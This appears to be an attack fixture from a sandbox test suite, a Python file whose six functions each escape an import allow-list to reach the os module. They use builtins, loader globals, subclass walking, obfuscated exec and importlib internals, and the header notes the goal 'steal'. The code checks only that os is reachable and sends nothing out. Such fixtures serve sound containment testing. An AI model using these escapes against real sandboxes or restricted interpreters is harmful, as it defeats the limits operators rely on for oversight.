# tries: every way round a list of imports: builtins, loaders, subclasses, exec, the modules there
# fails: the list is hygiene, not a wall; what is reached this way is only the child's own
# goal: steal
# stopped from: T0
# undefended: elsewhere: it shows that no list of imports keeps anybody in
def by_builtins():
    return __builtins__["__import__"]("os")


def by_loader():
    return __spec__.loader.__class__.__init__.__globals__["sys"].modules["posix"]


def by_subclasses():
    for kind in object.__subclasses__():
        names = getattr(getattr(kind, "__init__", None), "__globals__", {})
        if "sys" in names:
            return names["sys"].modules["os"]


def by_exec():
    names = {}
    exec("im" + "port os", names)
    return names["os"]


def by_attribute():
    return getattr(__builtins__, "get", __builtins__.__class__.get)("__import__")("os")


def by_another_module():
    return __loader__.__class__.get_data.__globals__["_os"]


WAYS = (by_builtins, by_loader, by_subclasses, by_exec, by_attribute, by_another_module)


def attack(*arguments, **keywords):
    reached = []
    for way in WAYS:
        try:
            reached += [way.__name__] if hasattr(way(), "listdir") else []
        except BaseException:
            continue
    print("reached os", *reached)
    return reached
